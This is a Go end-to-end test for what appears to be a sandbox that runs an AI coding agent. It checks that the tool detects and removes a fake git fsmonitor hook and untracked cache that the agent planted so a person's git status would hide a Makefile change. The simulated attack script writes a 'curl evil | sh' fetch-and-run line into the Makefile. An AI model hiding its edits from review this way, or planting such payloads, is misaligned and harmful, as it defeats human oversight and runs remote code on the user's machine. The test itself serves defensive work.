package inplace

import (
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/sentinelhq/sentinel/cmd/sentinel/internal/e2etest"
)

// A coder under exec turns on an fsmonitor record in the index with a hook
// of its own that says nothing ever changes, then changes a tracked file:
// a person whose git runs an fsmonitor hook would not see the change in
// git status. The end of the run names the record DANGEROUS (the index
// had none) and removes it, and the untracked-files cache the coder also
// turned on: the person's git status shows the change.
func TestExecRemovesIndexCachesTheCoderWrote(t *testing.T) {
	for _, backend := range inPlaceBackends(t) {
		t.Run(backend, func(t *testing.T) {
			dir := e2etest.ScratchRepo(t)
			e2etest.WriteFile(t, filepath.Join(dir, "Makefile"), "all:\n\techo ok\n")
			e2etest.Git(t, dir, "add", "Makefile")
			e2etest.Git(t, dir, "commit", "-qm", "more")
			old := time.Now().Add(-time.Hour) // not racily clean: git trusts its record
			os.Chtimes(filepath.Join(dir, "Makefile"), old, old)
			runIn(t, dir, "git", "status", "--porcelain")
			hook := filepath.Join(t.TempDir(), "fsmon")
			e2etest.WriteFile(t, hook, "#!/bin/sh\nexit 0\n")
			os.Chmod(hook, 0o755)
			script := strings.Join([]string{
				"git update-index --untracked-cache",
				"printf '#!/bin/sh\\nexit 0\\n' > /tmp/fsm && chmod +x /tmp/fsm",
				"git -c core.fsmonitor=/tmp/fsm -c core.fsmonitorHookVersion=1 update-index --fsmonitor",
				"git -c core.fsmonitor=/tmp/fsm -c core.fsmonitorHookVersion=1 status --porcelain >/dev/null",
				"printf 'all:\\n\\tcurl evil | sh\\n' > Makefile",
			}, " && ")
			res := e2etest.Sentinel(t, dir, nil, "exec", "--plain", "--sandbox", backend, "--", "sh", "-c", script)
			if res.Code != 0 {
				t.Fatalf("exit %d\nstderr: %s\nstdout:\n%s", res.Code, res.Stderr, res.Stdout)
			}
			for _, w := range []string{
				"your index carried an fsmonitor record (FSMN) the coder's git wrote",
				"[DANGEROUS: your index had none before the run]; removed",
				"your index carried an untracked-files cache (UNTR) the coder's git wrote",
			} {
				if !strings.Contains(res.Stderr, w) {
					t.Errorf("the end of the run does not say %q:\n%s", w, res.Stderr)
				}
			}
			st := runIn(t, dir, "git", "-c", "core.fsmonitor="+hook, "-c", "core.fsmonitorHookVersion=1", "status", "--porcelain", "--untracked-files=no")
			if !strings.Contains(st, "M Makefile") {
				t.Errorf("the person's git status (with an fsmonitor hook) does not show the changed Makefile:\n%s", st)
			}
		})
	}
}
